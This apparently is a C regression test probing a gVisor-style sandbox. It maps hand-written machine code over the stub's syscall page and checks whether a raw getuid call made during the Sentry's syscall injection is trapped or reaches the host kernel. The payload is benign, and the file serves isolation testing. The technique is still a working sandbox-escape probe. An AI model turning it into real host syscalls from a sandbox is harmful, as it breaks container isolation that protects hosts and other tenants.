// build: -static
// The workload maps its own code over the stub's `syscall` page (0x11000): the Sentry's
// next injected call (mmap of a file) then runs the workload's code with the injection
// under way. Here that code asks getuid with a raw syscall and stores the answer, puts the
// `syscall` back and jumps to it. The Sentry says the guest's uid (0 under `do` as root);
// if the host answered (65534), a workload call ran on the host past the Sentry.
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#define PAGE 0x11000UL
#define UNSET 0x5a5a5a5aL

int main(void) {
    setvbuf(stdout, NULL, _IONBF, 0);
    unsigned char *p = mmap((void *)PAGE, 4096, PROT_READ | PROT_WRITE | PROT_EXEC,
                            MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
    printf("replace stub page: %s\n", p == (void *)PAGE ? "ok" : "failed");
    if (p != (void *)PAGE)
        return 2;
    static const unsigned char code[] = {
        0xeb, 0x0e,                                     /* 0x11000: jmp 0x11010 */
        [0x10] = 0x48, 0x81, 0xec, 0x00, 0x01, 0, 0,     /* sub rsp, 256 (red zone) */
        0x50, 0x57, 0x56, 0x52,                         /* push rax, rdi, rsi, rdx */
        0xb8, 0x66, 0, 0, 0,                            /* mov eax, 102 (getuid) */
        0x0f, 0x05,                                     /* syscall */
        0x48, 0x89, 0x04, 0x25, 0x00, 0x18, 0x01, 0x00, /* mov [0x11800], rax */
        0x66, 0xc7, 0x04, 0x25, 0x00, 0x10, 0x01, 0x00, 0x0f, 0x05, /* mov word [0x11000], syscall */
        0x5a, 0x5e, 0x5f, 0x58,                         /* pop rdx, rsi, rdi, rax */
        0x48, 0x81, 0xc4, 0x00, 0x01, 0, 0,             /* add rsp, 256 */
        0xe9, 0, 0, 0, 0,                               /* jmp 0x11000 (rel32 below) */
    };
    memcpy(p, code, sizeof code);
    int jmp_end = (int)sizeof code;
    int rel = 0 - jmp_end;
    memcpy(p + jmp_end - 4, &rel, 4);
    *(long *)(p + 0x800) = UNSET;
    /* On fd 2: by an fd in 3..1023 the seccomp platform maps with no injection. */
    int fd = dup2(open("/etc/passwd", O_RDONLY), 2);
    void *m = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
    printf("mmap file: %s\n", m == MAP_FAILED ? "failed" : "ok");
    long uid = *(long *)(p + 0x800);
    printf("workload code in the injection: %s\n",
           uid == UNSET ? "never ran" : uid == getuid() ? "ran, its call trapped"
                                                       : "ran, its call reached the HOST");
    return 0;
}
